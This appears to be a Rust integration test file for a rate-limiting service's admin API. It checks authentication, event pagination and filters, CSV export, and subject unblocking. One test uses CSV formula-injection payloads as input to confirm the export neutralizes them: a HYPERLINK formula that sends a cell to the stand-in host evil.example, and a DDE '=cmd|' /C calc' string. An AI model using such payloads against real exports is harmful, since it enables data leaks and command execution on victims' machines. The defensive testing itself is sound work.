//! The admin API: authentication, event browsing (filters, keyset pages, CSV)
//! and a subject's live state and unblock.

use std::collections::HashSet;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde_json::{json, Value};
use tollgate::audit::{AuditDb, AuditDecision, AuditEvent};
use tollgate::domain::{Action, Subject, SubjectKind};

use crate::support::app::{
    spawn_app, spawn_app_with_audit_db, Backend, TestApp, ADMIN_TOKEN, API_KEY,
};
use crate::support::audit_db::{DbKind, TestDb};
use crate::{on_both_backends, on_both_databases};

const ROUTES: [(&str, &str); 4] = [
    ("GET", "/admin/api/events"),
    ("GET", "/admin/api/events.csv"),
    ("GET", "/admin/api/subjects/user/alice"),
    ("POST", "/admin/api/subjects/user/alice/unblock"),
];

async fn call(app: &TestApp, method: &str, path: &str, token: Option<&str>) -> u16 {
    let url = format!("{}{path}", app.address);
    let mut request = if method == "GET" {
        app.client.get(url)
    } else {
        app.client.post(url)
    };
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    request.send().await.unwrap().status().as_u16()
}

#[tokio::test]
async fn every_admin_route_refuses_missing_wrong_and_almost_right_tokens() {
    let app = spawn_app(Backend::Memory, |_| {}).await;
    let mut almost = ADMIN_TOKEN.to_string();
    almost.pop();
    almost.push('X');
    for (method, path) in ROUTES {
        for token in [None, Some("wrong"), Some(almost.as_str()), Some(API_KEY)] {
            assert_eq!(
                call(&app, method, path, token).await,
                401,
                "{method} {path} with {token:?}"
            );
        }
        assert_ne!(
            call(&app, method, path, Some(ADMIN_TOKEN)).await,
            401,
            "{method} {path}"
        );
    }
    let public = app
        .send_raw(
            app.client
                .post(format!("{}/login/check", app.address))
                .bearer_auth(ADMIN_TOKEN)
                .json(&json!({ "user": "a" })),
        )
        .await;
    assert_eq!(
        public.status, 401,
        "an admin token does not open public routes"
    );
}

#[tokio::test]
async fn with_no_admin_tokens_configured_every_admin_route_answers_401() {
    let app = spawn_app(Backend::Memory, |s| s.server.admin_tokens = vec![]).await;
    for (method, path) in ROUTES {
        assert_eq!(
            call(&app, method, path, Some(ADMIN_TOKEN)).await,
            401,
            "{method} {path}"
        );
    }
}

/// `n` events over a few subjects, ips, actions and decisions; every third
/// shares its millisecond with the previous ones so ties are exercised.
fn synthetic_events(n: usize, start: DateTime<Utc>) -> Vec<AuditEvent> {
    let users = ["alice", "bob", "carol"];
    let decisions = [
        AuditDecision::Deny,
        AuditDecision::Challenge,
        AuditDecision::Lock,
    ];
    (0..n)
        .map(|i| {
            let (subject, action) = if i % 4 == 0 {
                (
                    Subject::new(SubjectKind::Phone, "+8613800138000"),
                    Action::SmsSend,
                )
            } else {
                (
                    Subject::new(SubjectKind::User, users[i % 3]),
                    Action::LoginAttempt,
                )
            };
            let mut e = AuditEvent::new(action, decisions[i % 3], "rate_limited", &subject);
            e.occurred_at = start + chrono::Duration::milliseconds((i / 3) as i64);
            e.ip = Some(format!("203.0.113.{}", i % 5));
            e.user_agent = Some(format!("agent, \"quoted\" {i}"));
            e.request_id = Some(format!("r{i}"));
            e.observed = Some(i as i64);
            e
        })
        .collect()
}

async fn admin_app(db: &TestDb) -> TestApp {
    let (url, spool) = (db.url.clone(), db.spool_dir());
    spawn_app_with_audit_db(Backend::Memory, move |s| {
        s.audit.database_url = tollgate::settings::SecretUrl::new(url);
        s.audit.spool_dir = spool.display().to_string();
    })
    .await
}

/// Every event a query matches, following `next_cursor` to the end.
async fn walk(app: &TestApp, query: &str, page_size: usize) -> Vec<Value> {
    let mut events = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = format!("/admin/api/events?limit={page_size}{query}");
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let page = app.admin_get(&path).await;
        assert_eq!(page.status, 200, "{path}: {}", page.body);
        let batch = page.body["events"].as_array().unwrap().clone();
        assert!(batch.len() <= page_size);
        events.extend(batch);
        match page.body["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return events,
        }
    }
}

fn ids(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .map(|e| e["id"].as_str().unwrap().to_string())
        .collect()
}

on_both_databases!(
    pagination_walks_thousands_of_rows_without_duplicates_or_gaps_while_rows_arrive,
    filters_combine,
    csv_matches_json,
    csv_cells_a_spreadsheet_would_run_are_written_as_text,
    bad_queries_answer_400,
);

async fn pagination_walks_thousands_of_rows_without_duplicates_or_gaps_while_rows_arrive(
    kind: DbKind,
) {
    let db = TestDb::new(kind).await;
    let pool = db.connect().await;
    let start = tollgate::audit::now_ms() - chrono::Duration::hours(1);
    let events = synthetic_events(3_000, start);
    pool.insert(&events, 7).await.unwrap();
    let app = admin_app(&db).await;

    // New, newer rows keep arriving while the admin walks the pages.
    let writer = {
        let pool: AuditDb = pool.clone();
        tokio::spawn(async move {
            for round in 0..50 {
                let fresh = synthetic_events(10, Utc::now() + chrono::Duration::seconds(round));
                pool.insert(&fresh, 7).await.unwrap();
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        })
    };
    let first = app.admin_get("/admin/api/events?limit=1").await;
    let newest_before_walk = first.body["events"][0]["id"].as_str().unwrap().to_string();
    let walked = walk(&app, "", 137).await;
    writer.await.unwrap();

    let walked_ids = ids(&walked);
    let unique: HashSet<&String> = walked_ids.iter().collect();
    assert_eq!(unique.len(), walked_ids.len(), "no duplicates");
    let expected: HashSet<String> = events.iter().map(|e| e.id.to_string()).collect();
    let original: HashSet<String> = walked_ids
        .iter()
        .filter(|id| expected.contains(*id))
        .cloned()
        .collect();
    assert_eq!(original, expected, "no gaps among the rows that existed");
    let times: Vec<(String, String)> = walked
        .iter()
        .map(|e| {
            (
                e["occurred_at"].as_str().unwrap().to_string(),
                e["id"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert!(
        times.windows(2).all(|w| w[0] > w[1]),
        "newest first, strictly"
    );
    assert!(!newest_before_walk.is_empty());
}

async fn filters_combine(kind: DbKind) {
    let db = TestDb::new(kind).await;
    let pool = db.connect().await;
    let start = tollgate::audit::now_ms() - chrono::Duration::hours(1);
    let events = synthetic_events(300, start);
    pool.insert(&events, 7).await.unwrap();
    let app = admin_app(&db).await;

    let since = start + chrono::Duration::milliseconds(20);
    let until = start + chrono::Duration::milliseconds(60);
    let iso = |t: DateTime<Utc>| t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    type Pick = Box<dyn Fn(&AuditEvent) -> bool>;
    let cases: Vec<(String, Pick)> = vec![
        (
            "&subject_kind=user&decision=deny".into(),
            Box::new(|e| e.subject_kind == SubjectKind::User && e.decision == AuditDecision::Deny),
        ),
        (
            "&subject_kind=user&subject=bob&ip=203.0.113.2".into(),
            Box::new(|e| e.subject == "bob" && e.ip.as_deref() == Some("203.0.113.2")),
        ),
        (
            "&subject_kind=phone&subject=%2B8613800138000&action=sms_send".into(),
            Box::new(|e| e.subject_kind == SubjectKind::Phone),
        ),
        (
            "&subject_kind=phone&subject=+8613800138000".into(),
            Box::new(|e| e.subject_kind == SubjectKind::Phone),
        ),
        (
            "&subject_kind=phone&subject=%2B86%20138%200013%208000".into(),
            Box::new(|e| e.subject_kind == SubjectKind::Phone),
        ),
        (
            "&subject_kind=user&subject=BOB".into(),
            Box::new(|e| e.subject == "bob"),
        ),
        // The address as the trail writes it: an IPv4-mapped IPv6 is its IPv4.
        (
            "&ip=::ffff:203.0.113.3".into(),
            Box::new(|e| e.ip.as_deref() == Some("203.0.113.3")),
        ),
        (
            format!("&since={}&until={}&decision=lock", iso(since), iso(until)),
            Box::new(move |e| {
                e.occurred_at >= since
                    && e.occurred_at <= until
                    && e.decision == AuditDecision::Lock
            }),
        ),
    ];
    for (query, pick) in cases {
        let mut expected: Vec<String> = events
            .iter()
            .filter(|e| pick(e))
            .map(|e| e.id.to_string())
            .collect();
        expected.sort();
        let mut got = ids(&walk(&app, &query, 50).await);
        got.sort();
        assert!(!expected.is_empty(), "{query} selects something");
        assert_eq!(got, expected, "{query}");
    }
}

async fn csv_matches_json(kind: DbKind) {
    let db = TestDb::new(kind).await;
    let pool = db.connect().await;
    pool.insert(
        &synthetic_events(1_200, Utc::now() - chrono::Duration::hours(1)),
        7,
    )
    .await
    .unwrap();
    let app = admin_app(&db).await;

    let query = "&subject_kind=user";
    let json_rows = walk(&app, query, 500).await;
    let response = app
        .client
        .get(format!(
            "{}/admin/api/events.csv?{}",
            app.address,
            &query[1..]
        ))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(response.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "occurred_at",
            "action",
            "decision",
            "reason",
            "subject_kind",
            "subject",
            "ip",
            "rule",
            "observed",
            "limit",
            "window_ms",
            "retry_after_ms",
            "request_id",
            "user_agent",
            "shadow",
            // After DESIGN.md §4's columns, which stay a prefix (issue 20).
            "actor"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), json_rows.len());
    for (row, json) in rows.iter().zip(&json_rows) {
        for (i, column) in header.iter().enumerate() {
            let expected = match &json[column] {
                Value::Null => String::new(),
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            assert_eq!(&row[i], expected, "column {column}");
        }
    }
}

async fn csv_cells_a_spreadsheet_would_run_are_written_as_text(kind: DbKind) {
    let db = TestDb::new(kind).await;
    let pool = db.connect().await;
    let hostile = [
        (
            SubjectKind::User,
            r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
        ),
        (SubjectKind::User, "@SUM(1+1)"),
        (SubjectKind::User, "-2+3"),
        (SubjectKind::User, "\tcmd"),
        (SubjectKind::User, "\rcmd"),
        (SubjectKind::Phone, "+8613800138000"),
        (SubjectKind::User, "alice"),
    ];
    let start = Utc::now() - chrono::Duration::minutes(5);
    let events: Vec<AuditEvent> = hostile
        .iter()
        .enumerate()
        .map(|(i, (kind, id))| {
            let mut e = AuditEvent::new(
                Action::LoginAttempt,
                AuditDecision::Deny,
                "rate_limited",
                &Subject::new(*kind, *id),
            );
            e.occurred_at = start + chrono::Duration::seconds(i as i64);
            e.user_agent = Some("=cmd|' /C calc'!A0".into());
            e
        })
        .collect();
    pool.insert(&events, 7).await.unwrap();
    let app = admin_app(&db).await;
    let response = app
        .client
        .get(format!("{}/admin/api/events.csv", app.address))
        .bearer_auth(ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    // Newest first.
    let subjects: Vec<&str> = rows.iter().rev().map(|r| &r[6]).collect();
    assert_eq!(
        subjects,
        [
            r#"'=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
            "'@SUM(1+1)",
            "'-2+3",
            "'\tcmd",
            "'\rcmd",
            "'+8613800138000",
            "alice",
        ]
    );
    for row in &rows {
        // The piece after `|` starts with a `'` of its own: it gets one more,
        // so that dropping one gives the agent back.
        assert_eq!(&row[14], "'=cmd|'' /C calc'!A0", "user_agent");
    }
}

async fn bad_queries_answer_400(kind: DbKind) {
    let db = TestDb::new(kind).await;
    let app = admin_app(&db).await;
    for query in [
        "limit=501",
        "limit=0",
        "limit=ten",
        "since=yesterday",
        "until=2026-13-01T00:00:00Z",
        "cursor=zz",
        "subject_kind=planet",
        "decision=maybe",
        "action=fly",
        "colour=blue",
    ] {
        let answer = app.admin_get(&format!("/admin/api/events?{query}")).await;
        assert_eq!(
            (answer.status.as_u16(), answer.error()),
            (400, "invalid_request"),
            "{query}"
        );
    }
    // Empty parameters are not "no filter" in the API (the console's form
    // sends them; the API's document says each is a value of its form).
    for query in [
        "until=",
        "since=",
        "limit=",
        "cursor=",
        "subject=",
        "ip=",
        "action=",
        "subject_kind=",
        "decision=",
    ] {
        let answer = app.admin_get(&format!("/admin/api/events?{query}")).await;
        assert_eq!(
            (answer.status.as_u16(), answer.error()),
            (400, "invalid_request"),
            "{query}"
        );
    }
    // A subject that cannot be of its kind is a filter that matches nothing
    // (the document cannot tie `subject` to `subject_kind`), not an error.
    let phone = app
        .admin_get("/admin/api/events?subject_kind=phone&subject=12")
        .await;
    assert_eq!(phone.status, 200, "{}", phone.body);
    assert_eq!(phone.body["events"], json!([]), "{}", phone.body);
    let max = app.admin_get("/admin/api/events?limit=500").await;
    assert_eq!(max.status, 200);
}

on_both_backends!(
    a_locked_user_shows_its_state_and_unblock_clears_it,
    a_rate_limited_phone_is_named_by_an_encoded_or_raw_plus,
    a_blocked_ip_is_unblocked,
    subject_ids_in_paths_are_decoded_once,
);

async fn fail(app: &TestApp, user: &str, ip: &str) -> Value {
    app.login_attempt(json!({ "user": user, "ip": ip, "success": false, "captcha_passed": true }))
        .await
        .body
}

/// A user literally named `a%2Fb` is `a%252Fb` in a path, and stays `a%2Fb`;
/// an IPv4 range is no subject (it used to become its first address).
async fn subject_ids_in_paths_are_decoded_once(backend: Backend) {
    let app = spawn_app(backend, |s| s.login.captcha_after = 1000).await;
    fail(&app, "a%2Fb", "203.0.113.20").await;
    for path in [
        "/admin/api/subjects/user/a%252Fb",
        "/admin/subjects/user/a%252Fb",
    ] {
        let answer = if path.starts_with("/admin/api") {
            app.admin_get(path).await
        } else {
            app.send_raw(
                app.client
                    .get(format!("{}{path}", app.address))
                    .bearer_auth(ADMIN_TOKEN),
            )
            .await
        };
        assert_eq!(answer.status, 200, "{path}: {}", answer.body);
        if path.starts_with("/admin/api") {
            assert_eq!(answer.body["id"], "a%2fb", "{}", answer.body);
            let window = &answer.body["windows"][0];
            assert_eq!(window["count"], 1, "{}", answer.body);
        } else {
            let page = answer.body.as_str().unwrap_or_default().to_string();
            assert!(page.contains("a%2fb"), "{page}");
        }
    }
    let unblocked = app
        .admin_post("/admin/api/subjects/user/a%252Fb/unblock")
        .await;
    assert_eq!(unblocked.status, 200, "{}", unblocked.body);
    assert_eq!(unblocked.body["id"], "a%2fb");

    // A user named `unblock` is a user on the state route, and the unblock
    // route's own suffix is taken off only there.
    fail(&app, "unblock", "203.0.113.20").await;
    let named = app.admin_get("/admin/api/subjects/user/unblock").await;
    assert_eq!(named.status, 200, "{}", named.body);
    assert_eq!(named.body["id"], "unblock", "{}", named.body);
    let unblocked = app
        .admin_post("/admin/api/subjects/user/unblock/unblock")
        .await;
    assert_eq!(unblocked.status, 200, "{}", unblocked.body);
    assert_eq!(unblocked.body["id"], "unblock", "{}", unblocked.body);

    for range in ["10.0.0.0%2F8", "10.0.0.0%2F32", "2001:db8::%2F48"] {
        let answer = app
            .admin_get(&format!("/admin/api/subjects/ip/{range}"))
            .await;
        assert_eq!(answer.status, 400, "{range}: {}", answer.body);
        assert_eq!(answer.error(), "invalid_request");
    }
}

async fn a_locked_user_shows_its_state_and_unblock_clears_it(backend: Backend) {
    let app = spawn_app(backend, |s| {
        s.login.captcha_after = 1;
        s.login.lock_after = 2;
        s.login.lock_scope = tollgate::settings::LockScope::User;
    })
    .await;
    fail(&app, "alice", "203.0.113.1").await;
    assert_eq!(fail(&app, "alice", "203.0.113.1").await["locked"], true);

    let state = app.admin_get("/admin/api/subjects/user/Alice").await;
    assert_eq!(state.status, 200, "{}", state.body);
    assert_eq!(state.body["kind"], "user");
    assert_eq!(state.body["id"], "alice");
    assert_eq!(state.body["captcha_required"], true);
    let locked_until: DateTime<Utc> = state.body["locked_until"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let left = locked_until - Utc::now();
    assert!(
        left > chrono::Duration::minutes(14) && left <= chrono::Duration::minutes(15),
        "{left}"
    );
    assert_eq!(
        state.body["windows"],
        json!([
            { "action": "login_attempt", "rule": "user 1/15m", "count": 2, "limit": 1, "window_ms": 900_000 },
            { "action": "login_attempt", "rule": "user 2/1h", "count": 2, "limit": 2, "window_ms": 3_600_000 },
        ])
    );

    let unblocked = app
        .admin_post("/admin/api/subjects/user/alice/unblock")
        .await;
    assert_eq!(unblocked.status, 200, "{}", unblocked.body);
    assert_eq!(unblocked.body["locked_until"], Value::Null);
    assert_eq!(unblocked.body["captcha_required"], false);
    assert!(unblocked.body["windows"]
        .as_array()
        .unwrap()
        .iter()
        .all(|w| w["count"] == 0));
    let after = fail(&app, "alice", "203.0.113.1").await;
    assert_eq!(
        (after["decision"].clone(), after["failures"].clone()),
        (json!("allow"), json!(1))
    );

    let row = app
        .audit_events()
        .into_iter()
        .find(|e| e.decision == AuditDecision::Unblock)
        .expect("unblock audited");
    assert_eq!(
        (row.action, row.subject_kind, row.subject.as_str()),
        (Action::Admin, SubjectKind::User, "alice")
    );
}

async fn a_rate_limited_phone_is_named_by_an_encoded_or_raw_plus(backend: Backend) {
    let app = spawn_app(backend, |s| {
        s.sms.phone_limits = crate::support::app::limits(&[(1, 3_600_000)])
    })
    .await;
    assert_eq!(
        app.sms_send(json!({ "phone": "+8613800138000" }))
            .await
            .status,
        200
    );
    assert_eq!(
        app.sms_send(json!({ "phone": "+8613800138000" }))
            .await
            .status,
        429
    );

    for path in [
        "/admin/api/subjects/phone/%2B8613800138000",
        "/admin/api/subjects/phone/+8613800138000",
    ] {
        let state = app.admin_get(path).await;
        assert_eq!(state.status, 200, "{path}: {}", state.body);
        assert_eq!(state.body["id"], "+8613800138000");
        assert_eq!(state.body["windows"][0]["rule"], "phone 1/1h");
        assert_eq!(state.body["windows"][0]["count"], 1);
    }
    let unblocked = app
        .admin_post("/admin/api/subjects/phone/%2B8613800138000/unblock")
        .await;
    assert_eq!(unblocked.status, 200);
    assert_eq!(
        app.sms_send(json!({ "phone": "+8613800138000" }))
            .await
            .status,
        200
    );

    let bad = app.admin_get("/admin/api/subjects/phone/12").await;
    assert_eq!((bad.status.as_u16(), bad.error()), (400, "invalid_phone"));
    let unknown = app.admin_get("/admin/api/subjects/planet/mars").await;
    assert_eq!(
        (unknown.status.as_u16(), unknown.error()),
        (400, "invalid_request")
    );
}

async fn a_blocked_ip_is_unblocked(backend: Backend) {
    let app = spawn_app(backend, |s| {
        s.login.captcha_after = 1000;
        s.login.ip_captcha_after = 1000;
        s.login.ip_block_after = 2;
    })
    .await;
    fail(&app, "u1", "2001:db8:1:2::1").await;
    fail(&app, "u2", "2001:db8:1:2::2").await;
    assert_eq!(
        fail(&app, "u3", "2001:db8:1:2::3").await["reason"],
        "ip_blocked"
    );

    let state = app
        .admin_get("/admin/api/subjects/ip/2001:db8:1:2::%2F64")
        .await;
    assert_eq!(state.status, 200, "{}", state.body);
    assert_eq!(state.body["id"], "2001:db8:1:2::/64");
    assert!(state.body["locked_until"].is_string());
    let unblocked = app
        .admin_post("/admin/api/subjects/ip/2001:db8:1:2::9/unblock")
        .await;
    assert_eq!(unblocked.status, 200, "{}", unblocked.body);
    assert_eq!(unblocked.body["locked_until"], Value::Null);
    assert_eq!(
        fail(&app, "u3", "2001:db8:1:2::3").await["decision"],
        "allow"
    );
}

/// An unblock of a prefix or network of a length no limit counts would
/// lift nothing and be audited as done: answered 404, naming the lengths
/// counted; the counted ones are unblocked.
#[tokio::test]
async fn an_unblock_of_a_prefix_or_network_no_limit_counts_is_refused() {
    let app = spawn_app(Backend::Memory, |s| s.sms.network_bits = 56).await;
    for (path, counted) in [
        ("prefix/%2B86138", false),
        ("prefix/%2B861380013", false),
        ("prefix/%2B8613800", true),
        ("network/2001:db8:1::%2F40", false),
        ("network/2001:db8:1::%2F56", true),
        ("network/2001:db8:1::%2F48", true),
    ] {
        let answer = app
            .admin_post(&format!("/admin/api/subjects/{path}/unblock"))
            .await;
        if counted {
            assert_eq!(answer.status, 200, "{path}: {}", answer.body);
        } else {
            assert_eq!(
                (answer.status.as_u16(), answer.error()),
                (404, "not_found"),
                "{path}: {}",
                answer.body
            );
            let message = answer.body["message"].as_str().unwrap_or_default();
            assert!(
                message.contains("prefix_digits") || message.contains("network_bits"),
                "{path}: {message}"
            );
        }
    }
    app.flush_audit().await;
    let unblocks = app
        .audit_events()
        .into_iter()
        .filter(|e| e.decision == AuditDecision::Unblock)
        .count();
    assert_eq!(unblocks, 3, "only the counted ones are audited");
}

/// With `server.admin_bind`, the admin API, the console and `/metrics` are
/// on that listener only, and the public one answers them 404; the API is
/// on the public one only; both answer the probes.
#[tokio::test]
async fn admin_routes_live_on_their_own_listener_when_admin_bind_is_set() {
    let app = spawn_app(Backend::Memory, |s| {
        s.server.admin_bind = Some("127.0.0.1:0".parse().unwrap());
    })
    .await;
    let admin = app.admin_address.clone().expect("an admin listener");
    assert_ne!(admin, app.address);
    let get = |base: &str, path: &str| {
        app.client
            .get(format!("{base}{path}"))
            .bearer_auth(ADMIN_TOKEN)
            .send()
    };
    for path in ["/admin/api/subjects/user/alice", "/metrics", "/admin/lists"] {
        let public = get(&app.address, path).await.unwrap();
        assert_eq!(public.status(), 404, "public {path}");
        let private = get(&admin, path).await.unwrap();
        assert_eq!(private.status(), 200, "admin {path}");
    }
    for base in [&app.address, &admin] {
        assert_eq!(get(base, "/healthz").await.unwrap().status(), 200, "{base}");
    }
    // HEAD answers as GET does, without the body (monitors probe with HEAD).
    for (base, path) in [
        (&app.address, "/healthz"),
        (&app.address, "/readyz"),
        (&admin, "/readyz"),
        (&admin, "/metrics"),
    ] {
        let head = app
            .client
            .head(format!("{base}{path}"))
            .bearer_auth(ADMIN_TOKEN)
            .send()
            .await
            .unwrap();
        assert_eq!(head.status(), 200, "HEAD {base}{path}");
    }
    let delete = app
        .client
        .delete(format!("{}/healthz", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(delete.status(), 405);
    assert_eq!(delete.headers()["allow"], "GET, HEAD");
    let send = app
        .client
        .post(format!("{admin}/sms/send"))
        .json(&json!({ "phone": "+8613800138000" }))
        .send()
        .await
        .unwrap();
    assert_eq!(send.status(), 404, "the API is not on the admin listener");
    assert_eq!(
        app.sms_send(json!({ "phone": "+8613800138000" }))
            .await
            .status,
        200
    );
}

#[test]
fn admin_bind_must_differ_from_bind() {
    let error = crate::support::app::config_error(
        "[server]\nbind = \"127.0.0.1:8080\"\nadmin_bind = \"127.0.0.1:8080\"\n",
    );
    assert!(error.contains("server.admin_bind"), "{error}");
}
